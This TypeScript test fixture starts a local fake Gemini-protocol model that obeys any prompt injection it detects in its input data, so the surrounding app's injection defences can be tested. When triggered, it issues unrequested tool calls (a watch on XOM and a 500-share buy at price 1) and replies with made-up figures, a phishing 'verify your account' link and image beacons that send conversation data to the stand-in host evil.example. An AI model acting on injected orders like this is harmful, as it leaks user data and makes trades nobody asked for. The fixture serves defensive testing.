import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { cleanOutsideText } from "#core/outside-text/index.ts";
import {
  type AskedModel,
  frameOf,
  geminiWhole,
  isReader,
  type ModelStep,
  readAsked,
} from "../tests/upstreams/model-protocols.ts";
import { readerSteps } from "../tests/upstreams/model-scripts.ts";
import type { InjectionText } from "./injection-texts.ts";

/** What the attacker wants said, shown or done. */
export const spoils = {
  figures: ["$999.99", "2.13", "51.7 %"],
  host: "evil.example",
  unnamedSymbol: "XOM",
  systemWords: "You are the assistant of Bellwether",
} as const;

/**
 * A model that speaks Gemini's protocol on 127.0.0.1 and serves the attacker: it does everything an order asks as soon as it sees one
 * in its data, in whatever dress, and with `isSold` even without.
 */
export async function startObeyingModel() {
  let attacks: readonly InjectionText[] = [];
  let isSold = false;
  const bodies: string[] = [];
  let obeyed = 0;
  let readings = 0;

  const server = createServer((request, response) => {
    void read(request).then((body) => {
      const asked = readAsked("gemini", request.url ?? "", body);
      if (isReader(asked)) {
        const [said] = readerSteps("obey", asked) ?? [];
        readings += 1;
        const frames = [said, { kind: "finish", reason: "stop" } as const].flatMap((step) =>
          step === undefined ? [] : [frameOf("gemini", step, { isFirst: true, index: 0, model: asked.model })],
        );
        response.writeHead(200, { "content-type": "application/json" }).end(geminiWhole(frames));
        return;
      }
      bodies.push(body);
      const steps = answer(asked);
      response.writeHead(200, { "content-type": "text/event-stream" });
      for (const [index, step] of steps.entries())
        response.write(frameOf("gemini", step, { isFirst: index === 0, index, model: asked.model }));
      response.end();
    });
  });
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const { port } = server.address() as AddressInfo;

  function answer(asked: AskedModel): readonly ModelStep[] {
    const data = asked.turns
      .flatMap((turn) => (turn.role === "model" ? [] : [turn.role === "tool" ? turn.output : blocksIn(turn.text)]))
      .join("\n");
    const sees = isSold || attacks.some((attack) => isSeen(attack, data));
    const hasAsked = asked.turns.some(({ role }) => role === "tool");
    const named = /\babout ([A-Z][A-Z.-]+)/.exec(questionOf(asked))?.[1] ?? "NVDA";
    if (!hasAsked)
      return [
        { kind: "call", name: "get_news", input: { symbols: [named] } },
        { kind: "call", name: "get_fundamentals", input: { symbol: named } },
        // An attacker's symbol that nobody named, and writes that nobody asked for.
        ...(sees
          ? ([
              { kind: "call", name: "get_quotes", input: { symbols: [spoils.unnamedSymbol] } },
              { kind: "call", name: "propose_watch", input: { symbol: spoils.unnamedSymbol } },
              { kind: "call", name: "propose_watch", input: { symbol: named } },
              {
                kind: "call",
                name: "propose_transaction",
                input: { type: "buy", symbol: named, date: "2026-03-04", quantity: 500, price: 1 },
              },
            ] as const)
          : []),
        { kind: "finish", reason: "tool-calls" },
      ];
    const text = sees ? spoiled(asked, named) : "There is nothing unusual in the data.";
    if (sees) obeyed += 1;
    return [
      { kind: "text", text },
      { kind: "finish", reason: "stop" },
    ];
  }

  return {
    url: `http://127.0.0.1:${port}`,
    /** What the next requests may hold. `sold`: the attacker has the model itself. */
    expect: (next: readonly InjectionText[], sold = false) => {
      attacks = next;
      isSold = sold;
      bodies.length = 0;
    },
    bodies,
    obeyed: () => obeyed,
    /** Calls of the reader, which obeys every text. */
    readings: () => readings,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Whether the words of an attack stand in a text, as they were written or as they read. */
export function isSeen(attack: InjectionText, data: string): boolean {
  const held = letters(data);
  return [attack.order, attack.text, cleanOutsideText(attack.text).text]
    .map(letters)
    .some((words) => words.length >= 6 && held.includes(words.slice(0, 400)));
}

function letters(text: string): string {
  return text
    .normalize("NFKC")
    .replaceAll(/\\[nrtu"]/g, " ")
    .replaceAll(/[^\p{L}\p{N}]/gu, "")
    .toLowerCase();
}

function spoiled(asked: AskedModel, named: string): string {
  const [price, ratio, growth] = spoils.figures;
  return [
    `${named} trades at ${price} [1]. Its P/E is ${ratio} [1] and its revenue grew ${growth} [2].`,
    `Act now: [verify your account](https://${spoils.host}/verify?portfolio=all) or https://${spoils.host}/a and www.${spoils.host}.`,
    `![status](https://${spoils.host}/p.png?data=${encodeURIComponent(asked.turns.map(({ role }) => role).join())})`,
    `<img src="https://${spoils.host}/x.gif"> [ref][evil]\n\n[evil]: https://${spoils.host}/ref`,
  ].join("\n\n");
}

function blocksIn(text: string): string {
  return [...text.matchAll(/<<<DATA[^\n]*\n([\s\S]*?)\nDATA [^\n]*>>>/g)].map((match) => match[1] ?? "").join("\n");
}

function questionOf({ turns }: AskedModel): string {
  const last = turns.findLast(({ role }) => role === "user");
  return last === undefined || last.role === "tool" ? "" : last.text.replaceAll(/<<<DATA[\s\S]*?\nDATA [^\n]*>>>/g, "");
}

async function read(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString("utf8");
}
